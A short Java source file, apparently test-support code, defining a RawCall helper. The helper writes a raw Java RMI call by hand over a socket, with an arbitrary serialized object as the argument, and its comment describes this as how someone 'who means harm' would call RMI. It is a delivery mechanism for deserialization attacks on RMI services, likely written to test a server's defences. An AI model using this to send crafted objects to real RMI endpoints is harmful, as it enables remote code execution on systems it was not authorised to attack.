package io.ehcached.support;

import java.io.DataOutputStream;
import java.io.IOException;
import java.io.ObjectOutputStream;
import java.io.OutputStream;
import java.net.Socket;

/** A call of RMI as somebody writes it who means harm: with whatever object for its argument. */
public final class RawCall {
  private RawCall() {}

  /**
   * Makes one, and waits until the other end has done with it.
   *
   * @param object the number of one of RMI's own objects
   * @param operation the operation's number
   * @param hash the hash of its interface
   */
  public static void send(Socket socket, long object, int operation, long hash, Object argument)
      throws IOException {
    OutputStream out = socket.getOutputStream();
    DataOutputStream header = new DataOutputStream(out);
    header.writeInt(0x4a524d49); // JRMI
    header.writeShort(2);
    header.writeByte(0x4c); // a single call
    header.writeByte(0x50);
    ObjectOutputStream call = new ObjectOutputStream(out);
    call.writeLong(object);
    call.writeInt(0);
    call.writeLong(0);
    call.writeShort(0);
    call.writeInt(operation);
    call.writeLong(hash);
    call.writeObject(argument);
    call.flush();
    socket.shutdownOutput();
    byte[] unused = socket.getInputStream().readAllBytes();
  }
}
